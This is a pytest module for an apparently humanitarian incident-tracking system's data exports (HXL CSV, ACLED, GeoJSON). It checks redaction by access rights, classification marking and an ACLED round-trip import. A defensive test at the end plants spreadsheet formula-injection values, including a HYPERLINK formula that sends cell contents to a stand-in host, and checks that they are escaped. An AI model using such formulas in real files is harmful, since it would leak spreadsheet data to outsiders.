"""Exports: HXL-tagged CSV the engine can read, ACLED CSV that imports back, GeoJSON; always
redacted by the exporter's rights and marked with the highest classification inside."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import hxl
import pytest
from rest_framework.test import APIClient

from bluebox.cli import main
from bluebox.core import services as core_services
from bluebox.core.models import AuditEntry
from bluebox.incidents import jobs
from bluebox.incidents.models import Incident
from bluebox.testing.factories import IncidentFactory
from bluebox.testing.validators import geojson_problems, hxlvalidate

ENGINE_COLUMNS = [
    "occurred_at", "date_precision", "latitude", "longitude", "incident_type",
    "civilian_targeting", "fatalities_best", "fatalities_low", "fatalities_high", "admin1",
    "perpetrator_category", "actor",
]  # fmt: skip


@pytest.fixture
def incidents(world):
    at_a = IncidentFactory(
        site=world.site_a,
        title="At A",
        classification=0,
        perpetrator_actor="Group X",
        actors=["Group X", "Group Y"],
        admin1="Ouaka",
        fatalities_best=2,
        fatalities_low=1,
        fatalities_high=4,
    )
    at_b = IncidentFactory(site=world.site_b, title="At B", classification=2)
    elsewhere = IncidentFactory(site=world.other_site, title="Elsewhere")
    return at_a, at_b, elsewhere


def _get(user, url):
    client = APIClient()
    client.force_authenticate(user)
    response = client.get(url)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body.decode()


def test_the_csv_export_has_the_engine_columns_and_a_valid_hxl_row(world, incidents):
    response, text = _get(world.analyst, "/api/v1/incidents/export/csv/")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][: len(ENGINE_COLUMNS)] == ENGINE_COLUMNS
    assert all(tag.startswith("#") for tag in rows[1])
    dataset = hxl.data(io.BytesIO(text.encode()), hxl.InputOptions(allow_local=True))
    tags = [column.display_tag for column in dataset.columns]
    assert "#geo+lat" in tags and "#affected+killed+best" in tags and "#date+occurred" in tags
    values = list(dataset)
    assert len(values) == 2  # site A and site B; not the other mission's
    by_title = {row.get("#event+id"): row for row in values}
    first = by_title[str(incidents[0].pk)]
    assert first.get("#group+perpetrator+name") == "Group X"
    assert first.get("#affected+killed+high") == "4"
    assert datetime.fromisoformat(first.get("#date+occurred")) == incidents[0].occurred_at
    # Marked with the highest classification inside (site B's is strictly confidential).
    assert response["X-Bluebox-Classification"] == "STRICTLY CONFIDENTIAL"
    assert "STRICTLY_CONFIDENTIAL" in response["Content-Disposition"]
    assert AuditEntry.objects.filter(action="export", actor="analyst").exists()


def test_an_export_holds_only_what_the_exporter_may_see(world, incidents):
    response, text = _get(world.reporter_at_a, "/api/v1/incidents/export/csv/")
    rows = list(csv.DictReader(io.StringIO(text)))[1:]
    assert [row["id"] for row in rows] == [str(incidents[0].pk)]
    assert response["X-Bluebox-Classification"] == "UNCLASSIFIED"
    response, text = _get(world.partner, "/api/v1/incidents/export/geojson/")
    collection = json.loads(text)
    assert collection["features"] == [] and collection["count"] == 0


def test_geojson_export_is_a_feature_collection_of_points(world, incidents):
    response, text = _get(world.commissioner, "/api/v1/incidents/export/geojson/")
    collection = json.loads(text)
    assert response["Content-Type"] == "application/geo+json"
    assert collection["type"] == "FeatureCollection"
    assert collection["classification"] == "STRICTLY CONFIDENTIAL"
    point = next(f for f in collection["features"] if f["id"] == incidents[0].pk)
    assert point["geometry"] == {"type": "Point", "coordinates": [-9.49, 3.01]}
    assert point["properties"]["incident_type"] == "killing"
    assert geojson_problems(collection) == {}
    # JSON booleans and numbers, not their spellings.
    assert all(type(f["properties"]["civilian_targeting"]) is bool for f in collection["features"])
    assert point["properties"]["civilian_targeting"] is True
    assert point["properties"]["fatalities_best"] == 2


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_csv_exports_pass_hxlvalidate_with_the_default_schema(world, incidents, fmt):
    IncidentFactory(site=world.site_a, classification=0, victims_women=2, victims_girls=1)
    _, text = _get(world.commissioner, f"/api/v1/incidents/export/{fmt}/")
    passed, report = hxlvalidate(text)
    assert passed, report
    tags = list(csv.reader(io.StringIO(text)))[1]
    assert "#affected+victims+f+adults" in tags or fmt == "acled"
    assert not any("+adult" in t and "+adults" not in t for t in tags)
    assert "#date+precision" not in tags


def test_hxlvalidate_fails_a_date_column_that_holds_words():
    # The validator the exports are held to does refuse what the old hashtags held.
    passed, report = hxlvalidate("when,precision\n#date+occurred,#date+precision\n2020-01-02,day\n")
    assert not passed and "day" in report


def test_an_acled_export_imports_back_unchanged_in_substance(
    world, incidents, tmp_path, monkeypatch
):
    path = tmp_path / "acled.csv"
    _, key = core_services.token_create(actor=world.analyst, user=world.analyst, name="cli")
    monkeypatch.setenv("BLUEBOX_API_TOKEN", key)
    code = main(["export", "incidents", "--as", "analyst", "--format", "acled", "-o", str(path)])
    assert code == 0
    with path.open(newline="", encoding="utf-8") as handle:
        lines = handle.read().splitlines()
    assert lines[0].startswith("event_id_cnty,event_date,year,time_precision")
    assert lines[1].startswith("#event+code,#date+occurred")
    # Imported as served: the HXL row is recognised, not read as an event.
    report = jobs.incidents_import(
        actor=world.analyst,
        mission=world.mission,
        fmt="acled",
        path=path,
        now=datetime(2026, 11, 20, tzinfo=UTC),
    )
    assert report.created == 2
    back = Incident.objects.get(source="acled", external_id=f"bluebox-{incidents[0].pk}")
    assert (back.incident_type, back.latitude, back.longitude) == ("killing", 3.01, -9.49)
    assert back.perpetrator_actor == "Group X" and back.fatalities_best == 2
    assert back.occurred_at.date() == incidents[0].occurred_at.date()


def test_an_unknown_export_format_is_a_400(world):
    response, _ = _get(world.analyst, "/api/v1/incidents/export/xlsx/")
    assert response.status_code == 400


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_text_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(world, fmt):
    # A title typed into a community SMS or a field report reaches an analyst's spreadsheet.
    IncidentFactory(
        site=world.site_a,
        title='=HYPERLINK("http://example.invalid/?"&A1,"open")',
        perpetrator_actor="@SUM(1+1)",
        longitude=-9.49,
        classification=0,
    )
    _, body = _get(world.analyst, f"/api/v1/incidents/export/{fmt}/")
    rows = list(csv.DictReader(io.StringIO(body)))[1:]  # after the HXL row
    assert rows[0]["actor" if fmt == "csv" else "actor1"] == "'@SUM(1+1)"
    if fmt == "acled":  # the title travels as ACLED's notes
        assert rows[0]["notes"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"open")'
    assert float(rows[0]["longitude"]) == -9.49  # numbers keep their sign
